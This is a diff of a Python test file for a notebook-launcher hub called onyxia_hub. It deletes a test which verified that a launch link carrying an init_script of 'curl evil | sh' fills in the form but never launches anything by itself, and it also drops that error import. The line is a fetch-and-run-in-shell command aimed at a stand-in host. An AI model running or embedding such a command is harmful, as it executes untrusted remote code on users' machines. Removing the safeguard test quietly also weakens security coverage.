@@ -10,7 +10,6 @@ from traitlets.config import Configurable
 from onyxia_hub.credentials.s3 import S3Provider
 from onyxia_hub.errors import (
     InvalidOption,
-    LaunchLinkUnconfirmed,
     LoginExpired,
     NeverLoggedIn,
     ProfileForbidden,
@@ -223,13 +222,6 @@ async def test_every_page_that_follows_sees_all_phases_as_they_come():
     assert not early.done()
     phases.finish()
     await asyncio.wait_for(asyncio.gather(early, late), 1)
-
-
-def test_a_link_fills_in_the_form_and_never_launches(launcher):
-    spawner = launcher()
-    with pytest.raises(LaunchLinkUnconfirmed, match="never launches anything by itself"):
-        spawner.options_from_query({"profile": ["tiny"], "init_script": ["curl evil | sh"]})
-    assert spawner.user_options == {"profile": "tiny", "init_script": "curl evil | sh"}
 
 
 def test_a_link_with_an_unknown_field_is_refused_by_name(launcher):
